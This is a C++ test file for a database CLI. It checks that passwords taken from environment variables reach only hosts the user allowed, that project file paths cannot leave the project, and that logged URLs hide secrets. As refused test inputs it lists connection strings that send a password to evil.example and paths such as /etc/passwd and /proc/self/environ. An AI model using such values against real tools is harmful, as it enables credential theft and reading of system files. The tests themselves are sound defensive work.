// Which database is meant, whom secrets are sent to, and which files a project may name.
#include "src/project/project.h"

#include <doctest/doctest.h>
#include <stdlib.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "src/cli/command.h"
#include "src/cli/run_main.h"

namespace autogen::cli {
namespace {

using absl::StrContains;

using Variables = std::map<std::string, std::string>;
using Flags = std::map<std::string, std::vector<std::string>>;

// The environment as a test needs it, and as it was at the end.
class Environment {
 public:
  explicit Environment(const Variables& set) {
    for (const char* name :
         {"DATABASE_URL", "PGHOST", "PGHOSTADDR", "PGPORT", "PGDATABASE", "PGSERVICE", "PGUSER",
          "PGPASSWORD", "PGPASSFILE", "AUTOGEN_ALLOW_HOST", "AUTOGEN_USER_CONFIG", "AG_PW",
          "AG_HOST", "AG_URL", "AG_EMPTY"}) {
      const char* value = getenv(name);
      before_[name] = value == nullptr ? nullptr : std::make_unique<std::string>(value);
      unsetenv(name);
    }
    for (const auto& [name, value] : set) setenv(name.c_str(), value.c_str(), 1);
  }
  ~Environment() {
    for (const auto& [name, value] : before_) {
      if (value == nullptr) {
        unsetenv(name.c_str());
      } else {
        setenv(name.c_str(), value->c_str(), 1);
      }
    }
  }

 private:
  std::map<std::string, std::unique_ptr<std::string>> before_;
};

absl::StatusOr<std::string> UrlOf(const std::string& config, Flags flags = {}) {
  std::ofstream("autogen.txtpb") << config;
  flags["--quiet"] = {};
  absl::StatusOr<std::unique_ptr<Project>> project = OpenProject(Invocation(flags));
  if (!project.ok()) return project.status();
  return (*project)->Url();
}

TEST_CASE("an empty flag or variable that should name the database is an error that names it") {
  ScratchFolder folder;
  {
    const Environment environment(Variables{});
    CHECK(StrContains(UrlOf("", {{"--url", {""}}}).status().message(), "--url is empty"));
    CHECK(StrContains(UrlOf("url: \"${AG_EMPTY}\"").status().message(),
                      "autogen.txtpb:1: url: environment variable AG_EMPTY is not set"));
  }
  for (const char* name :
       {"DATABASE_URL", "PGHOST", "PGHOSTADDR", "PGPORT", "PGDATABASE", "PGSERVICE", "PGUSER"}) {
    const Environment environment(Variables{{name, ""}});
    const absl::Status status = UrlOf("").status();
    CHECK(status.code() == absl::StatusCode::kInvalidArgument);
    CHECK(StrContains(status.message(), absl::StrCat("environment variable ", name, " is empty")));
    CHECK_FALSE(std::filesystem::exists(".autogen"));
    CHECK(*UrlOf("", {{"--url", {"postgresql://h/d"}}}) == "postgresql://h/d");
  }
  const Environment environment(Variables{{"AG_EMPTY", ""}, {"PGHOST", "h"}, {"PGUSER", "u"}});
  CHECK(StrContains(UrlOf("url: \"postgresql://${AG_EMPTY}@h\"").status().message(),
                    "environment variable AG_EMPTY is empty"));
  CHECK(*UrlOf("") == "fallback_application_name=autogen");
}

TEST_CASE("secrets of the environment go to hosts that the person named or allowed") {
  ScratchFolder folder;
  const char* const kEvil = "url: \"postgresql://u:${AG_PW}@evil.example/d\"";
  Variables variables = {
      {"AG_PW", "s3@cret"}, {"AG_HOST", "db.example"}, {"AG_URL", "postgresql://u:x@db.example/d"}};
  {
    const Environment environment(variables);
    const absl::Status status = UrlOf(kEvil).status();
    CHECK(status.code() == absl::StatusCode::kPermissionDenied);
    for (const char* part : {"autogen.txtpb:1: url", "${AG_PW}", "evil.example", "--allow-host",
                             "AUTOGEN_ALLOW_HOST", "allow_host", "user.txtpb"}) {
      CAPTURE(part);
      CHECK(StrContains(status.message(), part));
    }
    CHECK_FALSE(StrContains(status.message(), "cret"));
    for (const char* refused :
         {"postgresql://u:${AG_PW}@${AG_HOST}.evil.example/d", "${AG_URL}?host=evil.example",
          "postgresql://u:${AG_PW}@${AG_HOST}/d?hostaddr=6.6.6.6",
          "host=evil.example password=${AG_PW}", "postgresql://u:${AG_PW}@localhost,evil.example/",
          "postgresql://evil.example/d?application_name=${AG_PW}"}) {
      CAPTURE(refused);
      CHECK(absl::IsPermissionDenied(UrlOf(absl::StrCat("url: \"", refused, "\"")).status()));
    }
    for (const char* taken :
         {"${AG_URL}", "postgresql://u:${AG_PW}@${AG_HOST}/d", "postgresql://u:${AG_PW}@localhost/",
          "postgresql://u:${AG_PW}@127.0.0.1:5433/d", "postgresql://u:${AG_PW}@/d?host=/tmp",
          "postgresql:///d?user=u&password=${AG_PW}"}) {
      CAPTURE(taken);
      CHECK(UrlOf(absl::StrCat("url: \"", taken, "\"")).status() == absl::OkStatus());
    }
    CHECK(*UrlOf(kEvil, {{"--allow-host", {"other,EVIL.example"}}}) ==
          "postgresql://u:s3%40cret@evil.example/d");
  }
  std::ofstream("user.txtpb") << "allow_host: \"evil.example\"";
  const std::string user = std::filesystem::absolute("user.txtpb").string();
  for (const auto& [name, value] :
       std::map<std::string, std::string>{{"AUTOGEN_ALLOW_HOST", "a, evil.example"},
                                          {"PGHOST", "evil.example"},
                                          {"AUTOGEN_USER_CONFIG", user}}) {
    CAPTURE(name);
    Variables more = variables;
    more[name] = value;
    const Environment environment(more);
    CHECK(UrlOf(kEvil).ok());
  }
}

TEST_CASE("no password that was found goes to a host that only the project's file names") {
  ScratchFolder folder;
  const Environment environment(Variables{{"PGPASSWORD", "s3cret"}});
  const std::string withheld = *UrlOf("url: \"postgresql://u@evil.example/d\"");
  CHECK(StrContains(withheld, "password=autogen-sends-no-password"));
  CHECK(StrContains(*UrlOf("url: \"host=evil.example\""), " password=autogen-sends-no-password"));
  CHECK(*UrlOf("url: \"postgresql://u@evil.example/d\"", {{"--allow-host", {"evil.example"}}}) ==
        "postgresql://u@evil.example/d");
  for (const char* url : {"postgresql://u:own@evil.example/d", "postgresql://u@localhost/d",
                          "service=app", "postgresql:///d"}) {
    CHECK(*UrlOf(absl::StrCat("url: \"", url, "\"")) == url);
  }
}

TEST_CASE("a project's files stay in the project: file and line of what leaves it") {
  ScratchFolder folder;
  const Environment environment(Variables{});
  const std::string outside = absl::StrCat(std::filesystem::current_path().string(), "_outside");
  std::filesystem::create_directories(outside);
  std::filesystem::create_directories("p/models");
  std::filesystem::current_path("p");
  std::filesystem::create_symlink(outside, "out");
  struct Row {
    std::string line;
    bool taken;
  };
  const Row rows[] = {
      {"template: \"/etc/passwd\"", false},
      {"model: \"../../etc\"", false},
      {"model: \"out\"", false},
      {"versions: \"out/versions\"", false},
      {"apply { approvals: \"/proc/self/environ\" }", false},
      {"apply { metrics_file: \"../.bashrc\" }", false},
      {"model: \"models/../models\"", true},
      {absl::StrCat("template: \"", std::filesystem::current_path().string(), "/x\""), true},
  };
  for (const Row& row : rows) {
    CAPTURE(row.line);
    std::ofstream("autogen.txtpb") << "# a comment\n" << row.line << "\n";
    const absl::Status status = OpenProject(Invocation(Flags{})).status();
    CHECK(status.ok() == row.taken);
    if (!row.taken) CHECK(StrContains(status.message(), "autogen.txtpb:2: "));
  }
  std::ofstream("autogen.txtpb") << "model: \"/etc\"\n";
  CHECK(OpenProject(Invocation(Flags{{"--model", {"/elsewhere"}}})).ok());
  std::filesystem::current_path("..");
  std::filesystem::remove_all(outside);
}

TEST_CASE("another user's configuration is taken only where the person names it") {
  if (geteuid() != 0) return;  // only root can give a file away
  ScratchFolder folder;
  std::ofstream("autogen.txtpb") << "";
  std::filesystem::create_directory("below");
  REQUIRE(chown("autogen.txtpb", 1234, 1234) == 0);
  for (const char* at : {".", "below"}) {
    std::filesystem::current_path(at);
    const absl::Status status = OpenProject(Invocation(Flags{})).status();
    CHECK(status.code() == absl::StatusCode::kFailedPrecondition);
    CHECK(StrContains(status.message(), "belongs to another user (uid 1234)"));
    CHECK(StrContains(status.message(), "--config "));
  }
  std::filesystem::current_path("..");
  CHECK(OpenProject(Invocation(Flags{{"--config", {"autogen.txtpb"}}})).ok());
}

TEST_CASE("each command prints once which database it uses, unless --quiet") {
  ScratchFolder folder;
  const Environment environment(Variables{{"DATABASE_URL", "postgresql://u:s3cret@127.0.0.1:1/d"}});
  std::filesystem::create_directory("versions");
  Outcome outcome = RunMain({"current"});
  CHECK(absl::StartsWith(outcome.err, "database: u@127.0.0.1:1/d\n"));
  CHECK(outcome.err.find("database: ", 1) == std::string::npos);
  CHECK(outcome.out.empty());
  CHECK_FALSE(StrContains(outcome.err, "s3cret"));
  outcome = RunMain({"current", "--quiet"});
  CHECK(absl::StartsWith(outcome.err, "autogen: connecting to u@127.0.0.1:1/d"));
}

TEST_CASE("a URL of the configuration that is none is named by file and line") {
  ScratchFolder folder;
  REQUIRE(RunMain({"init"}).code == 0);
  unsetenv("DATABASE_URL");
  std::ofstream("autogen.txtpb") << "# the database\n\nurl: \"postgresql://u:pw@[h/d\"\n";
  Outcome outcome = RunMain({"current"});
  CHECK(outcome.code == 2);
  CHECK(outcome.err.find("autogen.txtpb:3: url: ") != std::string::npos);
  CHECK(outcome.err.find("pw") == std::string::npos);
  std::ofstream("autogen.txtpb")
      << "url: \"dbname=a\"\ndirect_url: \"postgresql://u:${NO_SUCH_VARIABLE_}@h/d\"\n";
  outcome = RunMain({"upgrade"});
  CHECK(outcome.code == 2);
  CHECK(outcome.err.find("autogen.txtpb:2: direct_url: ") != std::string::npos);
}

}  // namespace
}  // namespace autogen::cli
